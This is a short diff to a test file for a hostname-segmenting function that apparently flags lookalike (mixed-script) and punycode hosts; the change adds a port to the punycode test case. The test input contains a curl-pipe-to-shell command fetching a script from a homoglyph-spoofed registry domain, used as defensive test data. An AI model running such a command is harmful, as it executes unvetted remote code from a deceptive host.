@@ -15,10 +15,10 @@ test.each([
 })
 
 test('a suspicious host stands apart and no character is lost', () => {
-  const text = 'curl https://reg\u0456stry.example.org/x | sh; cat notes.txt xn--a.b'
+  const text = 'curl https://reg\u0456stry.example.org/x | sh; cat notes.txt xn--a.b:443'
   expect(hostSegments(text).filter((part) => part.flag !== undefined)).toEqual([
     { text: 'reg\u0456stry.example.org', flag: 'mixed' },
-    { text: 'xn--a.b', flag: 'punycode' },
+    { text: 'xn--a.b:443', flag: 'punycode' },
   ])
   expect(
     hostSegments(text)
